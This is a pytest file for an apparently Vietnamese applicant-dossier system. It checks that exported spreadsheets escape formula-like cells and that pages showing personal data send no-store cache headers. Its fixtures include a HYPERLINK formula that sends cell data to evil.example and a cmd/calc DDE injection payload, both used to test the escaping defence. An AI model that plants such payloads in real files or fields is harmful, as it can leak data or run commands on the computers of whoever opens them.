"""Personal data stays put: exported cells that look like formulas stay text, and every
page, form, PDF and file that may show an applicant's details answers `no-store`."""

import io

import time_machine
from openpyxl import load_workbook
from test_route_walk import ACCOUNTS, declared_roles

from conftest import local_time
from core.reports.documents import tables_xlsx
from core.reports.periods import month_period
from core.reports.tables import Table
from core.spreadsheets import FORMULA_LEADS
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
PERSONAL_BLUEPRINTS = ("dossiers", "privacy", "desk", "dashboard")


def test_a_formula_looking_name_is_exported_as_text(auth, client, demo):
    auth.login()
    with time_machine.travel(local_time(2026, 3, 2, 9, 0), tick=False):
        factories.dossier(name=FORMULA_NAME)
        factories.dossier(name="@SUM(1+1)*cmd|' /C calc'!A0", address="-2+3 Hà Đông")
    response = client.get("/dossiers/register.xlsx?year=2026")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row if cell.value]
    risky = [cell for cell in cells if str(cell.value).startswith(FORMULA_LEADS)]
    assert any(FORMULA_NAME in str(cell.value) for cell in cells)
    assert risky, "the names were exported"
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_statistics_workbooks_write_text_as_text(app):
    table = Table(
        key="services",
        title="Thống kê",
        headers=["Dịch vụ", "Số lượt"],
        kinds=["text", "int"],
        rows=[["=1+1", 3], ["\tTab", 4], ["\rCR", 5], ["-x", -2]],
    )
    workbook = load_workbook(io.BytesIO(tables_xlsx([table], month_period(2026, 3))))
    values = {cell.value: cell for row in workbook.active.iter_rows(min_row=5) for cell in row}
    for text in ("=1+1", "\tTab", "\rCR", "-x"):
        assert values[text].data_type == "s" and values[text].quotePrefix
    assert values[-2].data_type == "n"  # numbers stay numbers


def personal_pages(app, code: str):
    """Every GET route of the blueprints that show personal data, with a real dossier."""
    for rule in sorted(app.url_map.iter_rules(), key=lambda rule: rule.rule):
        blueprint = rule.endpoint.rpartition(".")[0]
        if blueprint not in PERSONAL_BLUEPRINTS or "GET" not in rule.methods:
            continue
        values = {name: code if name == "code" else 1 for name in rule.arguments}
        yield rule, app.url_map.bind("localhost").build(rule.endpoint, values)


def test_every_page_with_personal_data_answers_no_store(app, demo, auth):
    app.config["WTF_CSRF_ENABLED"] = False
    dossier = factories.dossier()
    pages = list(personal_pages(app, dossier.code))
    assert len(pages) > 30
    problems = []
    for rule, path in pages:
        roles = declared_roles(app, rule) or ()
        username = next((ACCOUNTS[role] for role in roles if role in ACCOUNTS), None)
        client = app.test_client()
        if username:
            auth.login(username, client=client, form=False)
        response = client.get(path)
        if response.headers.get("Cache-Control") != "no-store":
            problems.append(
                f"{path} ({response.status_code}): {response.headers.get('Cache-Control')}"
            )
    lookup = app.test_client().get(factories.lookup_path(dossier.code))
    assert lookup.status_code == 200 and lookup.headers["Cache-Control"] == "no-store"
    assert not problems, "\n".join(problems)
